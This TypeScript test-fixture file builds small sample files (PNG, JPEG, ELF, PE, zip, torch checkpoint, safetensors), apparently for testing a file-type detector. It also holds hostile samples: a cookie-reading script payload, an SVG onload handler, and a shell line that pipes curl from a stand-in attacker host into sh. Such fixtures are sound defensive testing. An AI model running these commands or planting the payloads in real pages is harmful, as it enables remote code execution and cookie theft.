import { deflateSync } from 'node:zlib';

/** Small but real files of each kind, built here so the tests ship no binaries. */

function crc32(data: Buffer): number {
  let crc = ~0;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A valid 1x1 RGBA PNG. */
export function png(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(1, 0);
  ihdr.writeUInt32BE(1, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 6; // RGBA
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 255, 0, 0, 255]))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The head of a JFIF JPEG (enough for any sniffer). */
export function jpeg(): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0', 'latin1'), Buffer.alloc(64, 0)]);
}

/** An ISO BMFF file with an `isom` ftyp box, as an MP4 starts. */
export function mp4(): Buffer {
  const ftyp = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom', 'latin1'), Buffer.from([0, 0, 2, 0]), Buffer.from('isommp41', 'latin1')]);
  const mdat = Buffer.concat([Buffer.from([0, 0, 0, 0x10]), Buffer.from('mdat', 'latin1'), Buffer.alloc(8, 1)]);
  return Buffer.concat([ftyp, mdat]);
}

export function elf(): Buffer {
  return Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120, 0)]);
}

/** A DOS/PE header: `MZ`, padding, the PE offset at 0x3c, then `PE\0\0`. */
export function pe(): Buffer {
  const file = Buffer.alloc(256, 0);
  file.write('MZ', 0, 'latin1');
  file.writeUInt32LE(0x80, 0x3c);
  file.write('PE\0\0', 0x80, 'latin1');
  return file;
}

export function macho(): Buffer {
  return Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(120, 0)]);
}

export const HTML = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>');
export const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>');
export const XML = Buffer.from('<?xml version="1.0"?><note><to>x</to></note>');
export const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.invalid | sh\n');

/** `pickle.dumps({'a': 1}, protocol=4)`. */
export function pickle(): Buffer {
  return Buffer.from('80049509000000000000007d948c0161944b01732e', 'hex');
}

/** A stored (uncompressed) zip with the given entries: local headers, central directory, end record. */
export function zip(entries: Array<{ name: string; data: Buffer }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data } of entries) {
    const nameBytes = Buffer.from(name, 'utf8');
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** What `torch.save` writes: a zip whose first entry is `<name>/data.pkl`. */
export function torchCheckpoint(): Buffer {
  return zip([
    { name: 'archive/data.pkl', data: pickle() },
    { name: 'archive/data/0', data: Buffer.alloc(16, 1) },
    { name: 'archive/version', data: Buffer.from('3\n') },
  ]);
}

export interface TensorSpec {
  dtype: string;
  shape: number[];
  data_offsets: [number, number];
}

/** A safetensors file from a header object and a data section (default: exactly what the header needs). */
export function safetensors(header: Record<string, unknown>, data?: Buffer): Buffer {
  const json = Buffer.from(JSON.stringify(header), 'utf8');
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(json.length));
  const needed = Object.entries(header)
    .filter(([name]) => name !== '__metadata__')
    .reduce((end, [, spec]) => Math.max(end, (spec as TensorSpec).data_offsets?.[1] ?? 0), 0);
  return Buffer.concat([length, json, data ?? Buffer.alloc(needed, 7)]);
}

/** A valid two-tensor safetensors file (F32[2,2] then BF16[3]). */
export function validSafetensors(): Buffer {
  return safetensors({
    __metadata__: { format: 'pt' },
    'layer.weight': { dtype: 'F32', shape: [2, 2], data_offsets: [0, 16] },
    'layer.bias': { dtype: 'BF16', shape: [3], data_offsets: [16, 22] },
  });
}
